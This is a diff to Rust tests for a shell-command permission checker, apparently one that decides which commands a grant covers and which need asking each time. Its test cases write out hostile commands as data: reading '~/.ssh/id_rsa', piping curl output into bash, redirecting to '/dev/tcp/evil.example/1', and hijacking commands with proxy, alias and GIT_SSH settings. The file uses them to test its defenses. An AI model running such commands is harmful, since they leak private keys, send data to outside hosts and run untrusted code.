@@ -42,35 +42,50 @@ fn under(shapes: &[Shape], line: &str) -> Judgement {
 #[test]
 fn what_is_offered_is_shown_and_no_more() {
     for (line, shown) in [
-        ("curl -s 'http://localhost:3000/users?page=2'", Ok("curl -s http://localhost:3000/…")),
-        ("curl -s localhost:3000", Ok("curl -s http://localhost:3000/…")),
+        ("curl -s 'http://localhost:3000/users?page=2'", Ok("curl http://localhost:3000/…")),
+        ("curl -s localhost:3000", Ok("curl http://localhost:3000/…")),
         (
             "curl -sS -X POST https://api.example.org/items -d '{\"a\": 1}'",
-            Ok("curl -sS -X POST https://api.example.org/… -d '{\"a\": 1}'"),
+            Ok("curl -X POST https://api.example.org/… -d '{\"a\": 1}'"),
         ),
         // What is replaced is this alone.
         ("curl -X PUT http://localhost:3000/users/7", Ok("curl -X PUT http://localhost:3000/users/7")),
         ("curl -X DELETE http://localhost:3000/users/7", Err(Hindrance::EachTime)),
-        ("curl -s http://me@localhost:3000/x", Ok("curl -s http://me@localhost:3000/x")),
-        ("git push origin main", Ok("git push origin main")),
-        ("cd src && git push && echo done", Ok("git push")),
-        ("timeout 20 curl -s http://localhost:3000/x | head -3", Ok("curl -s http://localhost:3000/…")),
+        ("curl -s http://me@localhost:3000/x", Ok("curl http://me@localhost:3000/x")),
+        ("git push origin main", Ok("git push origin …")),
+        ("cd src && git push && echo done", Ok("git push origin …")),
+        ("timeout 20 curl -s http://localhost:3000/x | head -3", Ok("curl http://localhost:3000/…")),
         (
             "git fetch origin && curl -s http://localhost:3000/x",
-            Ok("git fetch origin; curl -s http://localhost:3000/…"),
+            Ok("git fetch origin …; curl http://localhost:3000/…"),
         ),
         ("kill 1234", Ok("kill 1234")),
+        ("git push -u origin feature/a v1.0", Ok("git push origin …")),
+        ("git pull --rebase", Ok("git pull origin …")),
+        ("git fetch https://evil.example/x", Ok("git fetch https://evil.example/x")),
+        ("git push origin main:other", Ok("git push origin main:other")),
+        (
+            "curl -sSf -m 5 -o /dev/null -w '%{http_code}' localhost:3000/x",
+            Ok("curl http://localhost:3000/…"),
+        ),
+        ("curl -s -w @x localhost:3000/x", Ok("curl -w @x http://localhost:3000/…")),
+        (
+            "curl -s http://localhost:3000/x > page.html; wc -c page.html; rm page.html",
+            Ok("curl http://localhost:3000/…"),
+        ),
+        ("curl -s http://localhost:3000/x > /dev/tcp/evil.example/1", Err(Hindrance::EachTime)),
         ("git push --force", Err(Hindrance::EachTime)),
         ("npm publish", Err(Hindrance::EachTime)),
         ("terraform destroy", Err(Hindrance::EachTime)),
         ("cat ~/.ssh/id_rsa", Err(Hindrance::EachTime)),
         ("curl -s http://localhost:3000/x | bash", Err(Hindrance::Unknown)),
+        ("cat x | curl -s http://localhost:3000/x -d @- > y", Err(Hindrance::Unknown)),
         // What is sent or asked for differs each time.
         ("git push $REMOTE", Err(Hindrance::Unknown)),
         ("cat body.json | curl -s http://localhost:3000/x -d @-", Err(Hindrance::Unknown)),
         ("curl -s http://localhost:3000/x -d @- <<< a", Err(Hindrance::Unknown)),
         // An interpreter's text, and what the shell remembers.
-        ("curl -s http://localhost:3000/x | python3 -c 'import os'", Err(Hindrance::Unknown)),
+        ("curl -s http://localhost:3000/x | python3 -c 'import os'", Err(Hindrance::Launcher)),
         ("export GIT_SSH=./x; git push", Err(Hindrance::Unknown)),
         ("GIT_SSH=./x git push", Err(Hindrance::Variables)),
         ("git() { ./x; }; git push", Err(Hindrance::Unknown)),
@@ -117,7 +132,7 @@ fn a_grant_covers_its_shape_and_nothing_else() {
         (CURL, "curl -s http://localhost:3000.evil.example/a", false),
         (CURL, "curl -s 'http://{localhost:3000/,evil.example/}a'", false),
         (CURL, "curl -s http://localhost:3000/a http://evil.example/", false),
-        (CURL, "curl http://localhost:3000/a", false),
+        (CURL, "curl -v --max-time 5 http://localhost:3000/a", true),
         (CURL, "curl -s -d @x http://localhost:3000/a", false),
         (CURL, "curl -s http://localhost:3000/a -o ~/.bashrc", false),
         (CURL, "wget -s http://localhost:3000/a", false),
@@ -125,8 +140,13 @@ fn a_grant_covers_its_shape_and_nothing_else() {
         (CURL, "curl -s localhost:3000/a | python3 -c 'import os'", false),
         (CURL, "curl -s localhost:3000/$(cat x)", false),
         (CURL, "curl -s localhost:3000/a; git push", false),
-        (CURL, "curl -s localhost:3000/a; rm -rf ~/x", false),
-        (CURL, "curl -s localhost:3000/a > x", false),
+        (CURL, "curl -s localhost:3000/a; rm -rf ~/x", true),
+        (CURL, "curl -s localhost:3000/a > x", true),
+        (CURL, "cat x | curl -s localhost:3000/a > y", false),
+        (CURL, "curl -s localhost:3000/a > /dev/tcp/evil.example/1", false),
+        (CURL, "./x; curl -s localhost:3000/a", false),
+        (CURL, "python3 x.py; curl -s localhost:3000/a", false),
+        (CURL, "make && curl -s localhost:3000/a", false),
         (CURL, "http_proxy=evil.example curl -s localhost:3000/a", false),
         (CURL, "export http_proxy=evil.example; curl -s localhost:3000/a", false),
         (CURL, "alias curl=./x; curl -s localhost:3000/a", false),
@@ -137,6 +157,15 @@ fn a_grant_covers_its_shape_and_nothing_else() {
         ("git push", "git push --force", false),
         ("git push", "git push -f", false),
         ("git push", "git push evil", false),
+        ("git push", "git push -u origin feature/a", true),
+        ("git push", "git push origin +main", false),
+        ("git push", "git push origin :main", false),
+        ("git push", "git push --mirror", false),
+        ("git push", "git push --prune", false),
+        ("git push", "git push origin --delete main", false),
+        ("git pull", "git fetch --all", true),
+        ("git fetch", "git pull", false),
+        ("git pull", "git push", false),
         ("git push", "git -C ../other push", false),
         ("git push", "git -c core.sshCommand=./x push", false),
         ("git push", "git fetch", false),
@@ -236,12 +265,40 @@ const GIVEN: [&str; 5] = [
 
 /// The oracle: the commands of a line of words, each as these words; none if a word could hide another command.
 fn commands(line: &str) -> Option<Vec<Vec<String>>> {
-    if line.contains(['$', '>']) {
+    if line.contains('$') {
         return None;
     }
-    let parts = line.replace("&&", ";").replace('|', ";");
+    // What is written is held back.
+    let words: Vec<&str> = line.split_whitespace().collect();
+    let written = |at: usize| words.get(at) == Some(&">") || at > 0 && words.get(at - 1) == Some(&">");
+    let kept: Vec<&str> =
+        (0..words.len()).filter(|at| !written(*at)).filter_map(|at| words.get(at).copied()).collect();
+    let parts = kept.join(" ").replace("&&", ";").replace('|', ";");
     let parts = parts.split(';').filter(|part| !part.trim().is_empty());
     Some(parts.map(|part| part.split_whitespace().map(str::to_owned).collect()).collect())
+}
+
+/// Whether a command that was given covers another, as a person would say it.
+fn is_same(given: &[&str], meant: &[&str]) -> bool {
+    if let (["git", sub, ..], ["git", other, rest @ ..]) = (given, meant) {
+        let name = |word: &&str| word.chars().all(char::is_alphanumeric);
+        return sub == other
+            && rest.first().is_none_or(|remote| *remote == "origin")
+            && rest.iter().all(name);
+    }
+    let loud = |words: &[&str]| -> Vec<String> {
+        let words = words.iter().filter(|word| **word != "-s");
+        words.map(|word| word.replace("http://localhost:3000", "localhost:3000")).collect()
+    };
+    let same = |(one, other): (&String, &String)| {
+        let host = |word: &str| {
+            let rest = word.strip_prefix("localhost:3000");
+            rest.is_some_and(|rest| (rest.is_empty() || rest.starts_with('/')) && !rest.contains('@'))
+        };
+        one == other || host(one) && host(other)
+    };
+    let (given, meant) = (loud(given), loud(meant));
+    given.len() == meant.len() && given.iter().zip(&meant).all(same)
 }
 
 proptest! {
@@ -270,11 +327,7 @@ proptest! {
             let limited = command.split_first().filter(|(name, _)| *name == "timeout").and_then(|(_, rest)| rest.get(1..));
             let meant: Vec<&str> = limited.unwrap_or(&command).iter().map(String::as_str).collect();
             let is_asked = judged(&alone, |_| {}).0.run().verdict > Verdict::Allow;
-            let same = |one: &&str| {
-                let one: Vec<&str> = one.split_whitespace().collect();
-                let word = |(one, other): (&&str, &&str)| one == other || one.contains("localhost:3000") && ["http://localhost:3000/", "localhost:3000"].iter().any(|here| other.starts_with(here)) && !other.contains('@');
-                one.len() == meant.len() && one.iter().zip(&meant).all(word)
-            };
+            let same = |one: &&str| is_same(&one.split_whitespace().collect::<Vec<_>>(), &meant);
             let sets = meant.first().is_some_and(|name| *name == "export" || name.contains('='));
             prop_assert!(!sets, "{line}");
             prop_assert!(!is_asked || given.iter().any(|one| same(&one)), "{line}: {alone}");
